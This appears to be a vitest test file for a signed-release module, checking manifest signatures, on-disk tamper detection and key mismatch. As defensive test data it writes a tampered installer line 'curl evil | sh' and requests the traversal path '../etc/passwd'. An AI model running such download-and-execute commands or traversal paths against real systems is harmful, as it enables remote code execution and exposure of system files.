import { createHash } from "node:crypto";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { keyPairFromSeed, sealRelease } from "@fleet-persona/persona";
import { afterEach, beforeEach, expect, test } from "vitest";
import { hubRelease, releaseFile, type ReleaseSettings } from "./release.ts";

const key = keyPairFromSeed(new Uint8Array(32).fill(5));
const installer = "#!/bin/sh\n";
let folder: string;
let settings: ReleaseSettings;

beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), "hub-release-"));
  settings = {
    manifest: join(folder, "release.json"),
    signature: join(folder, "release.sig"),
    publicKey: key.publicKey,
  };
  const sha256 = createHash("sha256").update(installer).digest("hex");
  const { manifest, signature } = sealRelease(
    {
      schema: "fleet-persona-agent-release/1",
      version: "1.0.0",
      files: [{ name: "install.sh", bytes: installer.length, sha256 }],
    },
    key,
  );
  writeFileSync(settings.manifest, manifest);
  writeFileSync(settings.signature, signature);
  writeFileSync(join(folder, "install.sh"), installer);
});
afterEach(() => rmSync(folder, { recursive: true, force: true }));

test("hubRelease gives a signed release with the digests that an install line names", async () => {
  expect(await hubRelease(settings)).toMatchObject({ kind: "ready", digest: expect.stringMatching(/^[0-9a-f]{64}$/) });
  expect(await releaseFile(settings, "install.sh")).toMatchObject({ bytes: installer.length });
  expect(await releaseFile(settings, "../etc/passwd")).toBeNull();
});

test("releaseFile hands out no file that was replaced on the disk", async () => {
  await releaseFile(settings, "install.sh");
  writeFileSync(join(folder, "install.sh"), "#!/bin/sh\ncurl evil | sh\n");
  expect(await releaseFile(settings, "install.sh")).toBeNull();
});

test("hubRelease says why there is none: not set, not there, not signed by the key", async () => {
  expect(await hubRelease(null)).toMatchObject({ kind: "unavailable", why: expect.stringContaining("AGENT_RELEASE") });
  expect(await hubRelease({ ...settings, signature: join(folder, "none") })).toMatchObject({ kind: "unavailable" });
  const other = keyPairFromSeed(new Uint8Array(32).fill(6)).publicKey;
  expect(await hubRelease({ ...settings, publicKey: other })).toMatchObject({
    kind: "unavailable",
    why: expect.stringContaining("not signed with the release key"),
  });
});
